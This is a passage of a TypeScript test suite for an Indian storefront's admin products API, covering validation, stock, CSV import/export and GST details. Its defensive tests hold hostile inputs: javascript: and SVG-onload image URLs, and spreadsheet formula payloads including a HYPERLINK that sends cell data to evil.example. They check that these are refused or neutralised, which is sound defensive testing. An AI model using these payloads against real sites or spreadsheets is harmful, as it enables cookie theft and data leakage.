import {
  type AdminProduct,
  type AdminProductList,
  IMAGE_URL_MESSAGE,
  type LowStockList,
  type Product,
  type ProductCreateInput,
} from '@storefront/contract';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stores } from '../../db/schema';
import { seedProducts } from '../../seed/sample-products';
import { editRows, lineOf } from '../../test/catalogue-csv';
import { importCatalogueCsv } from '../../test/jobs';
import { addStaff, asStaff, signInStaff } from '../../test/staff';
import {
  createTestApp,
  drivers,
  signUp,
  type TestApp,
  testShippingAddress,
} from '../../test/test-app';

const kurta: ProductCreateInput = {
  title: 'Block Print Cotton Kurta',
  description: 'Hand block printed in Jaipur.',
  category: 'Men',
  parentCategory: 'Kurtas',
  gender: 'Men',
  regularPrice: 1499,
  discountedPrice: 1199.5,
  featured: true,
  sizes: ['M', 'L'],
  colors: ['Indigo'],
  images: [{ url: '/images/products/kurta.svg', alt: 'Indigo kurta, front' }],
  attributes: [{ key: 'material', value: ['cotton'] }],
  variants: [
    { size: 'M', color: 'Indigo', sku: 'KUR-M-IND', stock: 4 },
    { size: 'L', color: 'Indigo', sku: 'KUR-L-IND', stock: null },
  ],
};

describe.each(drivers)('back-office products API on %s', (driver) => {
  let t: TestApp;
  let owner: string;
  let manager: string;
  let fulfilment: string;

  beforeAll(async () => {
    t = await createTestApp(driver);
    await addStaff(t, { email: 'owner-products@example.in', role: 'owner' });
    await addStaff(t, { email: 'manager-products@example.in', role: 'manager' });
    await addStaff(t, { email: 'packer-products@example.in', role: 'fulfilment' });
    owner = await signInStaff(t.app, 'owner-products@example.in');
    manager = await signInStaff(t.app, 'manager-products@example.in');
    fulfilment = await signInStaff(t.app, 'packer-products@example.in');
  });
  afterAll(async () => {
    await t?.close();
  });

  const create = (payload: object, cookie = manager) =>
    asStaff(t.app, cookie, { method: 'POST', url: '/api/v1/admin/products', payload });
  const publicProduct = (id: string) =>
    t.app.inject({ method: 'GET', url: `/api/v1/products/${id}` });
  const adminProduct = async (id: string) =>
    (
      await asStaff(t.app, owner, { method: 'GET', url: `/api/v1/admin/products/${id}` })
    ).json<AdminProduct>();

  it('creates a product with its variants, shown on the storefront with its stock', async () => {
    const response = await create(kurta);
    expect(response.statusCode, response.body).toBe(201);
    const product = response.json<AdminProduct>();
    expect(product).toMatchObject({
      title: kurta.title,
      regularPrice: 1499,
      discountedPrice: 1199.5,
      featured: true,
      sizes: ['M', 'L'],
      colors: ['Indigo'],
      archived: false,
      lowStockThreshold: 5,
    });
    expect(product.variants.map(({ size, sku, stock }) => ({ size, sku, stock }))).toEqual([
      { size: 'M', sku: 'KUR-M-IND', stock: 4 },
      { size: 'L', sku: 'KUR-L-IND', stock: null },
    ]);

    const shown = (await publicProduct(product.id)).json<Product>();
    expect(shown.regularPrice).toBe(1499);
    expect(shown.images).toEqual([
      { url: '/images/products/kurta.svg', alt: 'Indigo kurta, front' },
    ]);
    expect(shown.attributes).toEqual([
      { key: 'size', value: ['M', 'L'] },
      { key: 'color', value: ['Indigo'] },
      { key: 'material', value: ['cotton'] },
      { key: 'featured', value: ['true'] },
    ]);
    // 4 is at or under the store's threshold of 5: the storefront may say "Only 4 left".
    expect(shown.variants).toEqual([
      { size: 'M', color: 'Indigo', inStock: true, left: 4 },
      { size: 'L', color: 'Indigo', inStock: true, left: null },
    ]);
  });

  it('without variants, gives the product one per size and colour, stock not tracked', async () => {
    const { variants: _variants, ...fields } = kurta;
    const product = (
      await create({ ...fields, title: 'Plain kurta', colors: ['Red', 'Blue'] })
    ).json<AdminProduct>();
    expect(product.variants.map(({ size, color, stock }) => [size, color, stock])).toEqual([
      ['M', 'Red', null],
      ['M', 'Blue', null],
      ['L', 'Red', null],
      ['L', 'Blue', null],
    ]);
  });

  it.each([
    ['an empty title', { title: '  ' }, 'title: Enter a title'],
    [
      'a discounted price above the regular one',
      { discountedPrice: 1600 },
      'discountedPrice: The discounted price must be lower than the regular price',
    ],
    ['sizes that repeat', { sizes: ['M', 'm'] }, 'sizes: must not repeat a size'],
    [
      'a price in fractions of paise',
      { regularPrice: 10.001 },
      'regularPrice: must be in whole paise',
    ],
    [
      'a negative stock',
      { variants: [{ size: 'M', color: 'Indigo', stock: -1 }] },
      'must not be negative',
    ],
    [
      'a variant in a size the product lacks',
      { variants: [{ size: 'XL', color: 'Indigo', stock: 1 }] },
      `variants.0.size: "XL" is not one of the product's sizes`,
    ],
    ['a gender outside the list', { gender: 'Boys' }, 'gender: must be Men, Women or Unisex'],
  ])('refuses %s with a message on its field', async (_name, change, message) => {
    const response = await create({ ...kurta, variants: undefined, ...change });
    expect(response.statusCode).toBe(400);
    expect(response.json<{ error: string }>().error).toContain(message);
  });

  it('refuses an image at an address that is neither the web’s nor the shop’s own, naming the field', async () => {
    const hostile = [
      'javascript:alert(document.cookie)',
      'data:image/svg+xml,<svg onload=alert(1)>',
      '//evil.example/a.png',
      '/\\evil.example/a.png',
    ];
    for (const url of hostile) {
      const created = await create({
        ...kurta,
        variants: undefined,
        title: 'Evil image',
        images: [
          { url: '/images/products/kurta.svg', alt: '' },
          { url, alt: '' },
        ],
      });
      expect(created.statusCode, url).toBe(400);
      expect(created.json(), url).toEqual({ error: `images.1.url: ${IMAGE_URL_MESSAGE}` });
    }
    const { id } = (
      await create({ ...kurta, variants: undefined, title: 'Fine image' })
    ).json<AdminProduct>();
    const edited = await asStaff(t.app, manager, {
      method: 'PATCH',
      url: `/api/v1/admin/products/${id}`,
      payload: { images: [{ url: hostile[0], alt: '' }] },
    });
    expect(edited.statusCode).toBe(400);
    expect(edited.json()).toEqual({ error: `images.0.url: ${IMAGE_URL_MESSAGE}` });
    expect((await adminProduct(id)).images).toEqual(kurta.images);
    // The catalogue file's images column, on its row's line.
    const imported = await importCatalogueCsv(
      t.app,
      owner,
      `title,category,regular_price,images\nEvil,Home,100,/images/a.svg | ${hostile[0]}\n`,
      true,
    );
    expect(imported.result.errors).toEqual([{ line: 2, error: `images: ${IMAGE_URL_MESSAGE}` }]);
  });

  it('refuses a SKU another product uses (409), and writes nothing', async () => {
    const before = await asStaff(t.app, owner, {
      method: 'GET',
      url: '/api/v1/admin/products?q=Clash',
    });
    const response = await create({
      ...kurta,
      title: 'Clash',
      variants: [{ size: 'M', color: 'Indigo', sku: 'kur-m-ind', stock: 1 }],
    });
    expect(response.statusCode).toBe(409);
    expect(response.json<{ error: string }>().error).toMatch(/SKU is already used/);
    const after = await asStaff(t.app, owner, {
      method: 'GET',
      url: '/api/v1/admin/products?q=Clash',
    });
    expect(after.json<AdminProductList>().pagination.total).toBe(
      before.json<AdminProductList>().pagination.total,
    );
  });

  it('lets fulfilment staff read nothing and change nothing of the catalogue', async () => {
    for (const request of [
      { method: 'GET' as const, url: '/api/v1/admin/products' },
      { method: 'POST' as const, url: '/api/v1/admin/products', payload: kurta },
      { method: 'GET' as const, url: '/api/v1/admin/products/export' },
      { method: 'GET' as const, url: '/api/v1/admin/products/low-stock' },
    ]) {
      expect((await asStaff(t.app, fulfilment, request)).statusCode, request.url).toBe(403);
    }
    const anonymous = await t.app.inject({ method: 'GET', url: '/api/v1/admin/products' });
    expect(anonymous.statusCode).toBe(401);
  });

  it('edits fields, drops the variants of a removed size, adds untracked ones for a new size', async () => {
    const product = (
      await create({ ...kurta, title: 'Editable', variants: undefined })
    ).json<AdminProduct>();
    const response = await asStaff(t.app, manager, {
      method: 'PATCH',
      url: `/api/v1/admin/products/${product.id}`,
      payload: { regularPrice: 999, discountedPrice: null, sizes: ['L', 'XL'] },
    });
    expect(response.statusCode, response.body).toBe(200);
    const edited = response.json<AdminProduct>();
    expect(edited).toMatchObject({ regularPrice: 999, discountedPrice: null, sizes: ['L', 'XL'] });
    expect(edited.variants.map((variant) => variant.size).sort()).toEqual(['L', 'XL']);

    const refused = await asStaff(t.app, manager, {
      method: 'PATCH',
      url: `/api/v1/admin/products/${product.id}`,
      payload: { discountedPrice: 1000 },
    });
    expect(refused.statusCode).toBe(400);
    expect(refused.json<{ error: string }>().error).toBe(
      'discountedPrice: The discounted price must be lower than the regular price',
    );
  });

  it('replaces the variants and their stock; a size at 0 is out of stock on the storefront', async () => {
    const product = (
      await create({ ...kurta, title: 'Two sizes', variants: undefined, colors: [] })
    ).json<AdminProduct>();
    const response = await asStaff(t.app, manager, {
      method: 'PUT',
      url: `/api/v1/admin/products/${product.id}/variants`,
      payload: {
        variants: [
          { size: 'M', sku: 'TWO-M', stock: 0 },
          { size: 'L', sku: 'TWO-L', stock: 12 },
        ],
      },
    });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json<AdminProduct>().variants.map((variant) => variant.stock)).toEqual([0, 12]);
    expect((await publicProduct(product.id)).json<Product>().variants).toEqual([
      { size: 'M', color: '', inStock: false, left: 0 },
      { size: 'L', color: '', inStock: true, left: null },
    ]);
    const bad = await asStaff(t.app, manager, {
      method: 'PUT',
      url: `/api/v1/admin/products/${product.id}/variants`,
      payload: { variants: [{ size: 'S', stock: 1 }] },
    });
    expect(bad.statusCode).toBe(400);
    expect(bad.json<{ error: string }>().error).toMatch(/variants\.0\.size/);
  });

  it('archives a product: gone from the storefront, kept in the back office, restorable', async () => {
    const product = (
      await create({ ...kurta, title: 'Archived one', variants: undefined })
    ).json<AdminProduct>();
    const archive = (archived: boolean) =>
      asStaff(t.app, manager, {
        method: 'PATCH',
        url: `/api/v1/admin/products/${product.id}`,
        payload: { archived },
      });
    expect((await archive(true)).json<AdminProduct>().archived).toBe(true);
    expect((await publicProduct(product.id)).statusCode).toBe(404);
    const listed = await asStaff(t.app, manager, {
      method: 'GET',
      url: '/api/v1/admin/products?archived=true',
    });
    expect(listed.json<AdminProductList>().data.map((row) => row.id)).toContain(product.id);
    await archive(false);
    expect((await publicProduct(product.id)).statusCode).toBe(200);
  });

  it('lists with search, category and stock filters, and pages', async () => {
    const list = async (query: string) =>
      (
        await asStaff(t.app, owner, { method: 'GET', url: `/api/v1/admin/products?${query}` })
      ).json<AdminProductList>();
    expect((await list('q=block print cotton kurta')).data.map((row) => row.title)).toEqual([
      kurta.title,
    ]);
    expect((await list('q=KUR-M-IND')).data.map((row) => row.title)).toEqual([kurta.title]);
    const low = await list('stock=low&limit=100');
    expect(low.data.some((row) => row.title === kurta.title)).toBe(true);
    expect(low.data.every((row) => row.stockState === 'low')).toBe(true);
    const out = await list('stock=out&limit=100');
    expect(out.data.every((row) => row.stockState === 'out' && row.stock === 0)).toBe(true);
    const men = await list('category=men&limit=100');
    expect(men.data.length).toBeGreaterThan(0);
    expect(men.data.every((row) => row.category === 'Men')).toBe(true);
    const page = await list('limit=5&page=2');
    expect(page.data).toHaveLength(5);
    expect(page.pagination.total).toBeGreaterThan(seedProducts.length);
    const bad = await asStaff(t.app, owner, {
      method: 'GET',
      url: '/api/v1/admin/products?stock=many',
    });
    expect(bad.statusCode).toBe(400);
  });

  it('bulk-edits prices and stock of the selected products only', async () => {
    const a = (
      await create({ ...kurta, title: 'Bulk A', variants: undefined, colors: [] })
    ).json<AdminProduct>();
    const b = (
      await create({ ...kurta, title: 'Bulk B', variants: undefined, colors: [] })
    ).json<AdminProduct>();
    const bulk = (payload: object) =>
      asStaff(t.app, manager, { method: 'POST', url: '/api/v1/admin/products/bulk', payload });
    expect((await bulk({ ids: [a.id, b.id], stock: { mode: 'set', value: 10 } })).json()).toEqual({
      updated: 2,
    });
    expect((await bulk({ ids: [a.id], stock: { mode: 'adjust', value: -15 } })).statusCode).toBe(
      200,
    );
    expect((await bulk({ ids: [a.id], price: { mode: 'percent', percent: -10 } })).statusCode).toBe(
      200,
    );
    const [editedA, editedB] = await Promise.all(
      [a, b].map(async (product) =>
        (
          await asStaff(t.app, manager, {
            method: 'GET',
            url: `/api/v1/admin/products/${product.id}`,
          })
        ).json<AdminProduct>(),
      ),
    );
    expect(editedA!.variants.map((variant) => variant.stock)).toEqual([0, 0]);
    expect(editedB!.variants.map((variant) => variant.stock)).toEqual([10, 10]);
    expect(editedA).toMatchObject({ regularPrice: 1349.1, discountedPrice: 1079.55 });
    expect(editedB).toMatchObject({ regularPrice: 1499, discountedPrice: 1199.5 });
    // An adjustment leaves variants whose stock is not tracked untracked.
    const untracked = (
      await create({ ...kurta, title: 'Bulk C', variants: undefined, colors: [] })
    ).json<AdminProduct>();
    await bulk({ ids: [untracked.id], stock: { mode: 'adjust', value: 5 } });
    const stillUntracked = (
      await asStaff(t.app, manager, {
        method: 'GET',
        url: `/api/v1/admin/products/${untracked.id}`,
      })
    ).json<AdminProduct>();
    expect(stillUntracked.variants.map((variant) => variant.stock)).toEqual([null, null]);
    const refused = await bulk({
      ids: [a.id],
      price: { mode: 'set', regularPrice: 10, discountedPrice: 20 },
    });
    expect(refused.statusCode).toBe(400);
  });

  it('lists variants at or under their threshold, fewest first', async () => {
    const response = await asStaff(t.app, owner, {
      method: 'GET',
      url: '/api/v1/admin/products/low-stock?limit=100',
    });
    const { data } = response.json<LowStockList>();
    expect(data.length).toBeGreaterThan(0);
    expect(data.every((row) => row.stock <= row.threshold)).toBe(true);
    expect(data.map((row) => row.stock)).toEqual(
      [...data.map((row) => row.stock)].sort((x, y) => x - y),
    );
    expect(data.some((row) => row.sku === 'KUR-M-IND' && row.stock === 4)).toBe(true);
  });

  describe('CSV', () => {
    const importCsv = (csv: string, dryRun: boolean) =>
      importCatalogueCsv(t.app, owner, csv, dryRun);
    const exportCsv = async () => {
      const response = await asStaff(t.app, owner, {
        method: 'GET',
        url: '/api/v1/admin/products/export',
      });
      expect(response.statusCode).toBe(200);
      return response.body;
    };
    /** A kurta in M and L (Indigo), 3 of each in stock. */
    const createStocked = async (title: string) => {
      const response = await create({
        ...kurta,
        title,
        variants: [
          { size: 'M', color: 'Indigo', sku: null, stock: 3 },
          { size: 'L', color: 'Indigo', sku: null, stock: 3 },
        ],
      });
      expect(response.statusCode, response.body).toBe(201);
      return response.json<AdminProduct>();
    };
    /** A shopper's order for the product in a size (Indigo). */
    const buy = async (productId: string, size: string, quantity: number) => {
      const shopper = await signUp(t.app);
      const response = await t.app.inject({
        method: 'POST',
        url: '/api/v1/orders',
        headers: shopper.auth,
        payload: {
          products: { [productId]: quantity },
          items: [{ productId, quantity, size, color: 'Indigo' }],
          shippingAddress: testShippingAddress,
        },
      });
      expect(response.statusCode, response.body).toBe(201);
    };

    it('exports the whole catalogue, one row per variant, and imports it back unchanged', async () => {
      const exported = await asStaff(t.app, owner, {
        method: 'GET',
        url: '/api/v1/admin/products/export',
      });
      expect(exported.statusCode).toBe(200);
      expect(exported.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(exported.headers['content-disposition']).toMatch(/^attachment; filename="catalogue-/);
      expect(exported.body.split('\n')[0]).toBe(
        'product_id,title,description,category,parent_category,gender,regular_price,discounted_price,featured,archived,images,image_alts,attributes,hsn,gst_rate,generic_name,net_quantity,country_of_origin,manufacturer,consumer_care,returnable,weight_grams,length_cm,breadth_cm,height_cm,size,color,sku,stock,low_stock_threshold,stock_when_exported',
      );
      expect(exported.body).toContain('KUR-M-IND');
      // Nothing changes: every product is reported unchanged, none as an update.
      const { result } = await importCsv(exported.body, true);
      expect(result.errors).toEqual([]);
      expect(result).toMatchObject({ created: 0, updated: 0 });
      expect(result.unchanged).toBeGreaterThan(seedProducts.length);
      expect(result.changes).toHaveLength(result.unchanged);
      expect(
        result.changes.every((change) => change.action === 'unchanged' && !change.fields.length),
      ).toBe(true);
      const applied = (await importCsv(exported.body, false)).result;
      expect(applied).toMatchObject({ created: 0, updated: 0, unchanged: result.unchanged });
      const again = await asStaff(t.app, owner, {
        method: 'GET',
        url: '/api/v1/admin/products/export',
      });
      expect(again.body).toBe(exported.body);
    });

    it('a stale file puts no sold stock back: only what the file changed is imported', async () => {
      const made = await createStocked('Stale Stock Kurta');
      const exported = await exportCsv();
      // A shopper buys one M after the export: "Only 2 left".
      await buy(made.id, 'M', 1);
      // The owner edits only the price, in the file exported before the sale.
      const edited = editRows(exported, (row) =>
        row.product_id === made.id ? { ...row, regular_price: '1,599' } : row,
      );
      const dry = (await importCsv(edited, true)).result;
      expect(dry.errors).toEqual([]);
      expect(dry).toMatchObject({ created: 0, updated: 1 });
      const [change, ...others] = dry.changes;
      expect(change).toEqual({
        line: lineOf(edited, made.id),
        action: 'update',
        productId: made.id,
        title: 'Stale Stock Kurta',
        variants: 2,
        fields: [
          {
            line: lineOf(edited, made.id),
            field: 'regular_price',
            variant: null,
            from: '1499',
            to: '1599',
          },
        ],
        moreFields: 0,
      });
      expect(others.every((other) => other.action === 'unchanged')).toBe(true);
      expect(dry.unchanged).toBe(others.length);

      const applied = (await importCsv(edited, false)).result;
      expect(applied).toMatchObject({ updated: 1, unchanged: dry.unchanged, errors: [] });
      const after = await adminProduct(made.id);
      expect(after.regularPrice).toBe(1599);
      expect(after.variants.map(({ size, stock }) => [size, stock])).toEqual([
        ['M', 2],
        ['L', 3],
      ]);
    });

    it('a stock the file changed, on a variant sold since the export, is a conflict by line: nothing is imported', async () => {
      const made = await createStocked('Conflict Kurta');
      const exported = await exportCsv();
      await buy(made.id, 'M', 1);
      const restock = (file: string, stocks: Record<string, string>) =>
        editRows(file, (row) =>
          row.product_id === made.id
            ? { ...row, stock: stocks[row.size!]!, regular_price: '1599' }
            : row,
        );
      // M was 3 when exported and is 2 now; L was not sold, so its change would apply.
      const stale = restock(exported, { M: '10', L: '7' });
      const dry = (await importCsv(stale, true)).result;
      expect(dry.errors).toEqual([
        {
          line: lineOf(stale, made.id, 'M'),
          error:
            "stock: was 3 when the file was exported and is 2 now (sold or changed since); the file's 10 would undo that. Export the catalogue again and change the stock there, or on the product's page.",
        },
      ]);
      expect(dry).toMatchObject({ created: 0, updated: 0, unchanged: 0 });
      const refused = await importCsv(stale, false);
      expect(refused.job).toMatchObject({
        status: 'failed',
        error: '1 row has a problem; nothing was imported',
      });
      const kept = await adminProduct(made.id);
      expect(kept.regularPrice).toBe(1499);
      expect(kept.variants.map(({ size, stock }) => [size, stock])).toEqual([
        ['M', 2],
        ['L', 3],
      ]);

      // Exported again, the same counts go in, each shown as stock: old → new.
      const fresh = restock(await exportCsv(), { M: '10', L: '7' });
      const checked = (await importCsv(fresh, true)).result;
      expect(checked.errors).toEqual([]);
      expect(checked.changes[0]!.fields).toEqual([
        {
          line: lineOf(fresh, made.id),
          field: 'regular_price',
          variant: null,
          from: '1499',
          to: '1599',
        },
        {
          line: lineOf(fresh, made.id, 'M'),
          field: 'stock',
          variant: 'M / Indigo',
          from: '2',
          to: '10',
        },
        {
          line: lineOf(fresh, made.id, 'L'),
          field: 'stock',
          variant: 'L / Indigo',
          from: '3',
          to: '7',
        },
      ]);
      expect((await importCsv(fresh, false)).result.errors).toEqual([]);
      expect((await adminProduct(made.id)).variants.map(({ stock }) => stock)).toEqual([10, 7]);
    });

    it('reports a regular_price of 2,49 on regular_price; commas elsewhere only group thousands', async () => {
      const csv = [
        'title,category,regular_price,discounted_price',
        'Decimal Comma Remote,TV & Video Accessories,"2,49",2.29',
        'Lakh Remote,TV & Video Accessories,"₹1,24,999.00","99,999.50"',
        'Million Remote,TV & Video Accessories,"1,249,999",',
        'Short Group Remote,TV & Video Accessories,"12,34",',
      ].join('\n');
      const { result } = await importCsv(csv, true);
      const priceProblem =
        'regular_price: must be an amount in rupees: paise after a point (2.49), commas only between thousands (1,24,999.00)';
      expect(result.errors).toEqual([
        { line: 2, error: priceProblem },
        { line: 5, error: priceProblem },
      ]);
      const fixed = csv.replace('"2,49"', '2.49').replace('"12,34"', '1234');
      const applied = (await importCsv(fixed, false)).result;
      expect(applied).toMatchObject({ created: 4, errors: [] });
      const prices = async (q: string) =>
        (
          await asStaff(t.app, owner, {
            method: 'GET',
            url: `/api/v1/admin/products?q=${encodeURIComponent(q)}`,
          })
        ).json<AdminProductList>().data[0]!;
      expect(await prices('Decimal Comma Remote')).toMatchObject({
        regularPrice: 2.49,
        discountedPrice: 2.29,
      });
      expect(await prices('Lakh Remote')).toMatchObject({
        regularPrice: 124999,
        discountedPrice: 99999.5,
      });
      expect(await prices('Million Remote')).toMatchObject({ regularPrice: 1249999 });
    });

    it('writes no cell a spreadsheet would run as a formula, and imports every one back as it was', async () => {
      // Each dangerous first character (a tab or a carriage return cannot start a text the
      // catalogue keeps: it trims them), and texts that really start with an apostrophe; with
      // the start of an attribute's key, which cannot hold "=" (it separates key and values).
      const texts = [
        ['=HYPERLINK("https://evil.example/?"&A1,"Click")', ''],
        ['+SUM(1,2)', '+'],
        ['-2+3+cmd!A0', '-'],
        ['@SUM(1+1)', '@'],
        ["'=already marked as text", "'+"],
        ["''@twice", "''@"],
        ["'plain apostrophe", "'"],
      ] as const;
      const ids: string[] = [];
      for (const [index, [text, keyStart]] of texts.entries()) {
        const response = await create({
          title: `${text} #${index}`,
          description: `${text}\nand a second line`,
          category: 'Home',
          regularPrice: 100,
          sizes: ['One Size'],
          colors: [`${text.slice(0, 30)} ${index}`],
          images: [{ url: '/images/products/kurta.svg', alt: text }],
          attributes: [{ key: `${keyStart}material ${index}`, value: ['=steel', '-12.50'] }],
          manufacturer: text,
        });
        expect(response.statusCode, response.body).toBe(201);
        ids.push(response.json<AdminProduct>().id);
      }
      const before = await Promise.all(ids.map(adminProduct));

      const exported = await asStaff(t.app, owner, {
        method: 'GET',
        url: '/api/v1/admin/products/export',
      });
      const cells = (parse(exported.body) as string[][]).flat();
      const formulas = cells.filter(
        (cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell),
      );
      expect(formulas).toEqual([]);
      expect(cells).toContain(`'${texts[0][0]} #0`);
      expect(cells).toContain(`'${texts[4][0]} #4`);
      expect(cells).toContain(`${texts[6][0]} #6`);

      const applied = (await importCsv(exported.body, false)).result;
      expect(applied.errors).toEqual([]);
      expect(await Promise.all(ids.map(adminProduct))).toEqual(
        before.map((product) => ({ ...product, updatedAt: expect.any(String) })),
      );
      const again = await asStaff(t.app, owner, {
        method: 'GET',
        url: '/api/v1/admin/products/export',
      });
      expect(again.body).toBe(exported.body);
    });

    it('dry-runs a file with bad rows: every bad row by line, nothing written; apply refuses it', async () => {
      const csv = [
        'title,category,regular_price,discounted_price,size,sku,stock',
        'New Remote,TV & Video Accessories,499,,,REM-1,20',
        ',Home,100,,,,',
        'Cheap Cable,TV & Video Accessories,200,300,,,',
        'Bad Stock,Home,100,,,,-3',
        'Another,Home,100,,,rem-1,1',
      ].join('\n');
      const dry = await importCsv(csv, true);
      expect(dry.job.status).toBe('done');
      const { result } = dry;
      expect(result.errors).toEqual([
        { line: 3, error: 'title: Enter a title' },
        {
          line: 4,
          error: 'discounted_price: The discounted price must be lower than the regular price',
        },
        { line: 5, error: 'stock: must be a whole number, or blank when not tracked' },
        { line: 6, error: 'sku: rem-1 is also on line 2' },
      ]);
      expect(result).toMatchObject({ created: 0, updated: 0, dryRun: true });
      const applied = await importCsv(csv, false);
      expect(applied.job).toMatchObject({
        status: 'failed',
        error: '4 rows have problems; nothing was imported',
      });
      expect(applied.result.errors).toEqual(result.errors);
      const search = await asStaff(t.app, owner, {
        method: 'GET',
        url: '/api/v1/admin/products?q=New Remote',
      });
      expect(search.json<AdminProductList>().pagination.total).toBe(0);
    });

    it('creates new products and updates by SKU, after a dry run that lists the same changes', async () => {
      const csv = [
        'title,category,regular_price,size,color,sku,stock',
        'Voice Remote,TV & Video Accessories,899,,,VR-1,25',
        'Twin Socks,Men,299,S,,TS-S,5',
        'Twin Socks,Men,299,L,,TS-L,',
        `${kurta.title},Men,1599,M,Indigo,KUR-M-IND,9`,
      ].join('\n');
      const dry = (await importCsv(csv, true)).result;
      expect(dry).toMatchObject({ created: 2, updated: 1, errors: [], dryRun: true });
      expect(dry.changes.map((change) => [change.line, change.action, change.title])).toEqual([
        [2, 'create', 'Voice Remote'],
        [3, 'create', 'Twin Socks'],
        [5, 'update', kurta.title],
      ]);
      const applied = (await importCsv(csv, false)).result;
      expect(applied).toMatchObject({ created: 2, updated: 1, errors: [], dryRun: false });
      const socks = await asStaff(t.app, owner, {
        method: 'GET',
        url: '/api/v1/admin/products?q=TS-S',
      });
      const [row] = socks.json<AdminProductList>().data;
      expect(row).toMatchObject({ title: 'Twin Socks', stock: 5, variantCount: 2 });
      const kurtaRow = (
        await asStaff(t.app, owner, { method: 'GET', url: '/api/v1/admin/products?q=KUR-M-IND' })
      ).json<AdminProductList>().data[0]!;
      expect(kurtaRow).toMatchObject({ regularPrice: 1599, stock: 9 });
    });

    it('updates stock by SKU alone from a two-column file', async () => {
      const { result } = await importCsv('sku,stock\nVR-1,3\nNOPE-1,2\n', false);
      expect(result.errors).toEqual([{ line: 3, error: 'sku: no variant has the SKU NOPE-1' }]);
      const dry = (await importCsv('sku,stock\nVR-1,3\n', true)).result;
      expect(dry.changes).toEqual([
        {
          line: 2,
          action: 'update',
          productId: expect.any(String),
          title: 'Voice Remote',
          variants: 1,
          fields: [{ line: 2, field: 'stock', variant: null, from: '25', to: '3' }],
          moreFields: 0,
        },
      ]);
      const ok = (await importCsv('sku,stock\nVR-1,3\n', false)).result;
      expect(ok).toMatchObject({ updated: 1, unchanged: 0, errors: [] });
      // The same count again changes nothing; nor does a stale one beside what the export saw.
      const same = (await importCsv('sku,stock\nVR-1,3\n', true)).result;
      expect(same).toMatchObject({ updated: 0, unchanged: 1 });
      expect(same.changes[0]).toMatchObject({ action: 'unchanged', fields: [] });
      const stale = (
        await importCsv('sku,stock,stock_when_exported\nVR-1,25,25\nVR-1x,1,1\n', true)
      ).result;
      expect(stale.errors).toEqual([{ line: 3, error: 'sku: no variant has the SKU VR-1x' }]);
      const conflict = (await importCsv('sku,stock,stock_when_exported\nVR-1,30,25\n', true))
        .result;
      expect(conflict.errors).toEqual([
        {
          line: 2,
          error:
            "stock: was 25 when the file was exported and is 3 now (sold or changed since); the file's 30 would undo that. Export the catalogue again and change the stock there, or on the product's page.",
        },
      ]);
      const remote = (
        await asStaff(t.app, owner, { method: 'GET', url: '/api/v1/admin/products?q=VR-1' })
      ).json<AdminProductList>().data[0]!;
      expect(remote.stock).toBe(3);
    });

    it('answers bad files with a clear error, never a 5xx', async () => {
      for (const body of ['"unclosed,quote\n1,2', 'nonsense_column\n1', 'title\n' + 'x\n']) {
        const { job, result } = await importCsv(body, true);
        expect(job.status, body).toBe('done');
        expect(result.errors.length, body).toBeGreaterThan(0);
      }
      const empty = await asStaff(t.app, owner, {
        method: 'POST',
        url: '/api/v1/admin/products/import',
        headers: { 'content-type': 'text/csv' },
        payload: '',
      });
      expect(empty.statusCode).toBeLessThan(500);
      const wrongType = await asStaff(t.app, owner, {
        method: 'POST',
        url: '/api/v1/admin/products/import',
        payload: { not: 'csv' },
      });
      expect(wrongType.statusCode).toBe(400);
    });
  });

  describe('tax and legal details', () => {
    const details = {
      hsn: '621132',
      gstRate: 5,
      genericName: "Men's kurta",
      netQuantity: '1 N',
      countryOfOrigin: 'India',
      manufacturer: 'Jaipur Rangrez Textiles, 22 Sanganer Industrial Area, Jaipur 302029',
      consumerCare: 'care@chitrakart.in, +91 98110 45672',
      // Innerwear-like: the shop takes no returns of it (issue 38).
      returnable: false,
    };
    const patch = (id: string, payload: object) =>
      asStaff(t.app, manager, { method: 'PATCH', url: `/api/v1/admin/products/${id}`, payload });
    let id: string;

    beforeAll(async () => {
      const response = await create({
        ...kurta,
        title: 'Legal Kurta',
        variants: undefined,
        ...details,
      });
      expect(response.statusCode, response.body).toBe(201);
      id = response.json<AdminProduct>().id;
    });

    it('keeps them, and shows them in the storefront’s product details', async () => {
      const product = (
        await asStaff(t.app, manager, { method: 'GET', url: `/api/v1/admin/products/${id}` })
      ).json<AdminProduct>();
      expect(product).toMatchObject(details);
      expect((await publicProduct(id)).json<Product>().details).toEqual(details);
    });

    it('refuses a GST rate not in force and an HSN code of the wrong length', async () => {
      const notInForce = await patch(id, { gstRate: 12 });
      expect(notInForce.statusCode).toBe(400);
      expect(notInForce.json()).toEqual({
        error: 'gstRate: must be one of the GST rates in force: 0 %, 5 %, 18 %, 40 %',
      });
      expect((await patch(id, { hsn: '62113' })).json().error).toMatch(/^hsn: /);
      expect((await patch(id, { gstRate: 18.125 })).json().error).toMatch(/^gstRate: /);
      expect((await publicProduct(id)).json<Product>().details.gstRate).toBe(5);
      // Blank clears a detail; the rate list is data: an 18 % change is accepted.
      const changed = await patch(id, { gstRate: 18, countryOfOrigin: ' ' });
      expect(changed.json<AdminProduct>()).toMatchObject({ gstRate: 18, countryOfOrigin: null });
      await patch(id, details);
    });

    it('asks for 6 HSN digits when the store’s turnover setting says so', async () => {
      const { db } = t;
      await db.update(stores).set({ hsnDigits: 6 });
      try {
        const short = await patch(id, { hsn: '6211' });
        expect(short.statusCode).toBe(400);
        expect(short.json().error).toMatch(/^hsn: must have at least 6 digits/);
        expect((await patch(id, { hsn: '62113200' })).statusCode).toBe(200);
      } finally {
        await db.update(stores).set({ hsnDigits: 4 });
        await patch(id, details);
      }
    });

    it('travel through the CSV; a file without their columns leaves them as they are', async () => {
      const importCsv = async (csv: string) =>
        (await importCatalogueCsv(t.app, owner, csv, false)).result;
      const old = await importCsv(
        `product_id,title,category,regular_price\n${id},Legal Kurta,Men,1599\n`,
      );
      expect(old).toMatchObject({ updated: 1, errors: [] });
      expect((await publicProduct(id)).json<Product>()).toMatchObject({
        regularPrice: 1599,
        details,
      });

      const changed = await importCsv(
        `product_id,title,category,regular_price,hsn,gst_rate,net_quantity\n${id},Legal Kurta,Men,1599,6211,18%,1 N\n`,
      );
      expect(changed).toMatchObject({ updated: 1, errors: [] });
      expect((await publicProduct(id)).json<Product>().details).toEqual({
        ...details,
        hsn: '6211',
        gstRate: 18,
      });

      const bad = await importCsv(
